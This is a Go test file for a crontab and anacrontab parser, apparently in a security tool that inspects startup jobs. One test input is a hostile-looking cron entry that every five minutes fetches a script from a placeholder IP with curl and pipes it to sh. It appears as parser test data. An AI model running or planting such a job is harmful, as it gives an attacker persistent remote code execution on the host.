package startup

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/ward-sec/ward/internal/testutil"
)

func TestParseCrontab(t *testing.T) {
	tests := []struct {
		name    string
		system  bool
		in      string
		entries []CronEntry
		bad     []LineError
	}{
		{
			name:   "system crontab has a user field",
			system: true,
			in:     "17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n",
			entries: []CronEntry{{Line: 1, Schedule: "17 * * * *", User: "root",
				Command: "cd / && run-parts --report /etc/cron.hourly"}},
		},
		{
			name:    "user crontab has none",
			in:      "*/5 * * * * curl -fsSL http://203.0.113.7/x.sh | sh\n",
			entries: []CronEntry{{Line: 1, Schedule: "*/5 * * * *", Command: "curl -fsSL http://203.0.113.7/x.sh | sh"}},
		},
		{
			name:   "specials",
			system: true,
			in:     "@reboot root /usr/local/bin/start\n@DAILY nobody /bin/daily\n@midnight root x\n",
			entries: []CronEntry{
				{Line: 1, Schedule: "@reboot", User: "root", Command: "/usr/local/bin/start"},
				{Line: 2, Schedule: "@DAILY", User: "nobody", Command: "/bin/daily"},
				{Line: 3, Schedule: "@midnight", User: "root", Command: "x"},
			},
		},
		{
			name: "environment lines, comments and blanks are skipped",
			in: lines("SHELL=/bin/sh", "PATH = /usr/bin:/bin", `MAILTO=""`, `"QUOTED"=1`, "  # indented comment", "",
				"\t", "CRON_TZ=UTC", "0 0 * * * /bin/true"),
			entries: []CronEntry{{Line: 9, Schedule: "0 0 * * *", Command: "/bin/true"}},
		},
		{
			name: "names, ranges, steps, lists, percent kept",
			in:   "0 9-17/2 1,15 jan-jun mon-fri date +\\%F % stdin\n30 2 * * 1~5 /bin/x\n",
			entries: []CronEntry{
				{Line: 1, Schedule: "0 9-17/2 1,15 jan-jun mon-fri", Command: "date +\\%F % stdin"},
				{Line: 2, Schedule: "30 2 * * 1~5", Command: "/bin/x"},
			},
		},
		{
			name:    "cronie no-log prefix",
			in:      "-*/10 * * * * /usr/lib64/sa/sa1 1 1\n",
			entries: []CronEntry{{Line: 1, Schedule: "*/10 * * * *", Command: "/usr/lib64/sa/sa1 1 1"}},
		},
		{
			name:   "malformed lines",
			system: true,
			in: lines(
				"*/15 * * * /usr/bin/true", // four time fields
				"@every5m root /bin/x",     // unknown special
				"0 0 * * *",                // no user, no command
				"0 0 * * * root",           // no command
				"61x * * * * root /bin/x",  // bad minute
				"0 0 * foo * root /bin/x",  // names are three letters
				"0 0 * * 1/x root /bin/x",  // bad step
				"just some words",          // not a job, not an assignment
				"5 4 * * * root /ok",
			),
			entries: []CronEntry{{Line: 9, Schedule: "5 4 * * *", User: "root", Command: "/ok"}},
			bad: []LineError{
				{1, `bad time field 5 "/usr/bin/true"`},
				{2, `unknown special schedule "@every5m"`},
				{3, "missing user name"},
				{4, "missing command"},
				{5, `bad time field 1 "61x"`},
				{6, `bad time field 4 "foo"`},
				{7, `bad time field 5 "1/x"`},
				{8, "fewer than 5 time fields"},
			},
		},
		{
			name: "user crontab line without command",
			in:   "@reboot\n",
			bad:  []LineError{{1, "missing command"}},
		},
		{
			name:    "CRLF",
			in:      "0 1 * * * /bin/a\r\n",
			entries: []CronEntry{{Line: 1, Schedule: "0 1 * * *", Command: "/bin/a"}},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			entries, bad, err := ParseCrontab(strings.NewReader(tt.in), tt.system)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.entries, entries); diff != "" {
				t.Errorf("entries (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(tt.bad, bad); diff != "" {
				t.Errorf("bad lines (-want +got):\n%s", diff)
			}
		})
	}
}

func TestParseCrontabLongLine(t *testing.T) {
	in := "0 0 * * * /bin/ok\n0 0 * * * " + strings.Repeat("x", MaxLine+1) + "\n"
	entries, _, err := ParseCrontab(strings.NewReader(in), false)
	if err == nil || !strings.Contains(err.Error(), "line 2") {
		t.Errorf("err = %v, want one naming line 2", err)
	}
	if len(entries) != 1 {
		t.Errorf("entries before the long line: %d", len(entries))
	}
}

// TestParseRealCrontabs: the fixture crontabs are real files every line of
// which cron accepts (the www-data one has one deliberate bad line).
func TestParseRealCrontabs(t *testing.T) {
	tests := []struct {
		file    string
		system  bool
		entries int
		bad     int
	}{
		{"debian/etc/crontab", true, 4, 0},
		{"debian/etc/cron.d/e2scrub_all", true, 2, 0},
		{"debian/etc/cron.d/anacron", true, 1, 0},
		{"debian/var/spool/cron/crontabs/root", false, 2, 0},
		{"debian/var/spool/cron/crontabs/www-data", false, 2, 1},
		{"rhel/etc/crontab", true, 0, 0},
		{"rhel/etc/cron.d/0hourly", true, 1, 0},
		{"alpine/etc/crontabs/root", false, 6, 0},
	}
	for _, tt := range tests {
		data, err := os.ReadFile(filepath.Join(testutil.RepoRoot(), "testdata", "roots", tt.file))
		if err != nil {
			t.Fatal(err)
		}
		entries, bad, err := ParseCrontab(strings.NewReader(string(data)), tt.system)
		if err != nil || len(entries) != tt.entries || len(bad) != tt.bad {
			t.Errorf("%s: %d entries, %d bad, err %v; want %d, %d", tt.file, len(entries), len(bad), err, tt.entries, tt.bad)
		}
	}
}

func TestParseAnacrontab(t *testing.T) {
	in := lines(
		"SHELL=/bin/sh",
		"START_HOURS_RANGE=3-22",
		"#period in days   delay in minutes   job-identifier   command",
		"1\t5\tcron.daily\t\tnice run-parts /etc/cron.daily",
		"@monthly 45\tcron.monthly\t\tnice run-parts /etc/cron.monthly",
		"7 25 cron.weekly",
		"weekly 1 x /bin/x",
		"1 soon x /bin/x",
	)
	entries, bad, err := ParseAnacrontab(strings.NewReader(in))
	if err != nil {
		t.Fatal(err)
	}
	want := []CronEntry{
		{Line: 4, Schedule: "1 5 cron.daily", Command: "nice run-parts /etc/cron.daily"},
		{Line: 5, Schedule: "@monthly 45 cron.monthly", Command: "nice run-parts /etc/cron.monthly"},
	}
	if diff := cmp.Diff(want, entries); diff != "" {
		t.Errorf("entries (-want +got):\n%s", diff)
	}
	wantBad := []LineError{
		{6, "expected: period delay job-identifier command"},
		{7, `bad period "weekly"`},
		{8, `bad delay "soon"`},
	}
	if diff := cmp.Diff(wantBad, bad); diff != "" {
		t.Errorf("bad (-want +got):\n%s", diff)
	}
}

func lines(l ...string) string { return strings.Join(l, "\n") + "\n" }
